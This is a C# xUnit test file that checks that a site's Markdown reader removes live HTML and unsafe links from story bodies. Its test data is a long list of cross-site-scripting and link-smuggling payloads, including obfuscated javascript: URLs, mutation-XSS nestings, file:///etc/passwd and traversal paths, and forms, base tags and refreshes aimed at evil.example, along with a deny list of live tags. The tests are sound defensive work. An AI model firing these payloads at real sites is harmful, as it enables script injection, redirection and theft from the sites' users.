using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using CsCheck;
using CustomersRock.Tests.Support;
using Xunit;

namespace CustomersRock.Tests.Reading;

public sealed class HostileBodyTests
{
    private static readonly string[] LiveTags =
        ["script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "button", "textarea", "select", "link", "meta", "base", "video", "audio", "template", "img", "noscript", "title"];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt src=//evil.example/x.js></sCrIpT>")]
    [InlineData("Some <script>alert(1)</script> words")]
    [InlineData("<scr<script>ipt>alert(1)</scr</script>ipt>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("A <img src=\"x\" onerror=\"alert(1)\"> picture")]
    [InlineData("<b onmouseover=alert(1)>bold</b>")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\">styled</p>")]
    [InlineData("<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=\"data:text/html,<script>alert(1)</script>\"></object>")]
    [InlineData("<form action=\"https://evil.example/\"><input name=a><button>Send</button></form>")]
    [InlineData("<textarea><img src=x onerror=alert(1)>")]
    [InlineData("x <textarea> y")]
    [InlineData("x <plaintext> y")]
    [InlineData("<plaintext>")]
    [InlineData("<title><img src=x onerror=alert(1)>")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("<!--><script>alert(1)</script>-->")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<!-- --!><script>alert(1)</script> -->")]
    [InlineData("<div title=\"")]
    [InlineData("<div title=\">x\"><script>alert(1)</script>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"java&#10;script:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>")]
    [InlineData("<a href=\" \u0001javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"//evil.example/\">x</a>")]
    [InlineData("<a href=\"/\\evil.example/\">x</a>")]
    [InlineData("<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">")]
    [InlineData("<body onload=alert(1)><html onclick=alert(1)>")]
    [InlineData("<frameset><frame src=\"javascript:alert(1)\"></frameset>")]
    [InlineData("<table><tr><td background=\"javascript:alert(1)\">x</td></tr></table>")]
    [InlineData("<details open ontoggle=alert(1)><summary>x</summary></details>")]
    [InlineData("<x-y onclick=alert(1)>custom</x-y>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](java&Tab;script:alert(1))")]
    [InlineData("[x](java&NewLine;script&colon;alert(1))")]
    [InlineData("[x](\\javascript:alert(1))")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[x](file:///etc/passwd)")]
    [InlineData("[x](//evil.example/)")]
    [InlineData("[x](https://bank.example@evil.example/)")]
    [InlineData("[x](blob:https://evil.example/1)")]
    [InlineData("[x][r]\n\n[r]: javascript:alert(1)")]
    [InlineData("[x][r]\n\n[r]: <java\tscript:alert(1)>")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("<data:text/html,alert(1)>")]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("![x](data:image/svg+xml;base64,PHN2Zz4=)")]
    [InlineData("![x](https://evil.example/pixel.png)")]
    [InlineData("![x](../../../../etc/passwd.png)")]
    [InlineData("![x](%2e%2e/%2e%2e/secret.png)")]
    [InlineData("![x](..\\..\\secret.png)")]
    [InlineData("![\"onerror=\"alert(1)](case.jpg)")]
    [InlineData("[x](https://a.example/\"onmouseover=\"alert(1))")]
    [InlineData("[x](https://a.example/ '\"onmouseover=\"alert(1)')")]
    [InlineData("[x](/about/ \"\\\" onmouseover=\\\"alert(1)\")")]
    [InlineData("```<img src=x onerror=alert(1)>\ncode\n```")]
    [InlineData("`<script>alert(1)</script>`")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("&#60;script&#62;alert(1)&#60;/script&#62;")]
    [InlineData("# <img src=x onerror=alert(1)>")]
    [InlineData("| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |")]
    [InlineData("[^1]\n\n[^1]: <script>alert(1)</script>")]
    [InlineData("<a href=\"https://a.example\" id=\"main\" class=\"nav\" target=_blank ping=\"https://evil.example\">x</a>")]
    public void Nothing_live_is_left_and_the_neighbours_stay(string attack)
    {
        var read = ReadText.Body("Before the *attack*.\n\n" + attack + "\n\nAfter the [page](/about/).\n");
        if (read.Story is null)
        {
            Assert.True(read.IsBroken);
            return;
        }

        var html = ReadText.Html(read.Story.Body);
        AssertDead(html);
        Assert.Contains("<p>Before the <em>attack</em>.</p>", html, StringComparison.Ordinal);
        if (!IsOpenToTheEnd(attack))
            Assert.Contains("After the <a href=\"{/about/}\">page</a>.", html, StringComparison.Ordinal);
    }

    [Fact]
    public void Any_mixture_of_tags_and_marks_leaves_nothing_live()
    {
        string[] pieces =
        [
            "<b>", "</b>", "<script>", "</script>", "<!--", "-->", "<a href=\"", "\">", "javascript:", "&#x6A;", "<img src=x onerror=alert(1)>", "<svg", " onload=alert(1)>", "<style>",
            "<table>", "<td>", "<p", "\n\n", "[x](", ")", "![", "](", "`", "```\n", "> ", "- ", "|", "\n|---|\n", "*", "<details>", "<div title='", "'", "words ", "<title>", "</p>", "<math>", "<mtext>",
            "case.jpg", "xref:violin", "# ", "[^1]", "[^1]: ", "\\", "<?x", "?>", "<![CDATA[", "]]>", "<template>", "<select>", "<textarea>", "<pre>\n", "<a id=main>", "\"",
        ];
        Gen.Int[0, pieces.Length - 1].List[1, 24].Select(parts => string.Concat(parts.Select(i => pieces[i]))).Sample(markdown =>
        {
            var read = ReadText.Body(markdown);
            if (read.Story is not null)
                AssertDead(ReadText.Html(read.Story.Body));
        }, iter: 3000);
    }

    [Theory]
    [InlineData("A <b>bold</b> word<br>and H<sub>2</sub>O.", "<p>A <b>bold</b> word<br />and H<sub>2</sub>O.</p>")]
    [InlineData("<details>\n<summary>More</summary>\n\nA *hidden* line.\n\n</details>", "<details>\n<summary>More</summary>\n<p>A <em>hidden</em> line.</p>\n</details>")]
    [InlineData("An <a href=\"/about/\" title=\"us\">inside</a> link.", "<p>An <a href=\"{/about/}\" title=\"us\">inside</a> link.</p>")]
    [InlineData("An <a href=\"https://a.example/?a=1&amp;b=2\">outside</a> link.", "<p>An <a href=\"https://a.example/?a=1&amp;b=2\" rel=\"ugc nofollow noopener\">outside</a> link.</p>")]
    [InlineData("A <span class=\"x\">plain</span> word.", "<p>A plain word.</p>")]
    [InlineData("An <i>italic</i> ![violin](case.jpg \"Anna\") word.", "<p>An <i>italic</i>  word.</p>\n{picture case.jpg}")]
    public void Harmless_HTML_is_kept(string markdown, string html) => Assert.Equal(html, ReadText.Html(markdown).Trim());

    [Fact]
    public void Headings_and_footnotes_keep_their_ids_beside_raw_HTML_and_authors_cannot_set_any()
    {
        var html = ReadText.Html("## Coffee, café\n\nA note[^1] and <b id=\"main\" class=\"nav\">bold</b>.\n\n[^1]: The note.\n");
        Assert.Contains("<h2 id=\"coffee-cafe\">", html, StringComparison.Ordinal);
        Assert.Contains("id=\"fnref:1\" href=\"#fn:1\" class=\"footnote-ref\"", html, StringComparison.Ordinal);
        Assert.Contains("<li id=\"fn:1\">", html, StringComparison.Ordinal);
        Assert.Contains("<b>bold</b>", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("```a\tskip call")]
    [InlineData("```a skip call")]
    [InlineData("```a&Tab;skip&NewLine;call")]
    [InlineData("~~~~ a\tskip")]
    public void A_block_of_code_names_its_language_and_no_class_of_the_theme(string fence)
    {
        var html = ReadText.Html($"{fence}\ncode\n{new string(fence[0], 4)}\n");
        Assert.Contains("class=\"language-a\"", html, StringComparison.Ordinal);
        Assert.DoesNotContain("skip", html, StringComparison.Ordinal);
    }

    [Fact]
    public void No_heading_takes_an_id_of_the_theme()
    {
        var files = Directory.EnumerateFiles(RepositoryFolder.Theme, "*.liquid", SearchOption.AllDirectories);
        var ids = files.SelectMany(f => Regex.Matches(File.ReadAllText(f), "\\bid=\"([a-z][a-z0-9-]*)\"")).Select(m => m.Groups[1].Value).ToHashSet(StringComparer.Ordinal);
        Assert.Contains("content", ids);
        Assert.All(ids, id => Assert.DoesNotContain($"id=\"{id}\"", ReadText.Html($"## {id.Replace('-', ' ')}\n"), StringComparison.Ordinal));
    }

    [Theory]
    [InlineData("<b>", 20_000)]
    [InlineData("> ", 20_000)]
    [InlineData("[", 50_000)]
    [InlineData("<a ", 20_000)]
    [InlineData("*a ", 50_000)]
    [InlineData("<b>\n\ntext\n\n", 5_000)]
    [InlineData("![x](a.jpg) ", 5_000)]
    [InlineData("[x](javascript:a) ", 20_000)]
    public void Repetition_without_end_neither_throws_nor_hangs(string piece, int times)
    {
        var clock = System.Diagnostics.Stopwatch.StartNew();
        ReadText.Body(string.Concat(Enumerable.Repeat(piece, times)));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), clock.Elapsed.ToString());
    }

    private static bool IsOpenToTheEnd(string attack) =>
        // CommonMark itself lets these run to the end of the text.
        attack.StartsWith("<textarea", StringComparison.Ordinal) || attack.StartsWith("<!-- --!>", StringComparison.Ordinal);

    private static readonly AngleSharp.Dom.Url Here = new("https://site.example/stories/2026/violin/");

    private static void AssertDead(string html)
    {
        var document = new HtmlParser().ParseDocument("<!DOCTYPE html><body>" + html);
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, LiveTags);
            Assert.All(element.Attributes, a => Assert.False(a.Name.StartsWith("on", StringComparison.Ordinal) || a.Name is "style" or "src" or "srcset" or "target" or "ping", $"{a.Name} in {html}"));
            if (element.GetAttribute("href") is { } href)
                Assert.True(IsAllowed(href), $"{href} in {html}");
        }
    }

    // Holes show their target in braces: it has to stay on the site, read as a browser reads it.
    private static bool IsAllowed(string href) =>
        (href.StartsWith('{') && href.EndsWith('}') && new AngleSharp.Dom.Url(Here, href[1..^1]) is { Scheme: "https", HostName: "site.example" } or { Scheme: "xref" })
        || href.StartsWith("#fn", StringComparison.Ordinal)
        || href.StartsWith("mailto:", StringComparison.OrdinalIgnoreCase)
        || (Uri.TryCreate(href, UriKind.Absolute, out var uri) && uri.Scheme is "http" or "https" && uri.UserInfo.Length == 0);
}
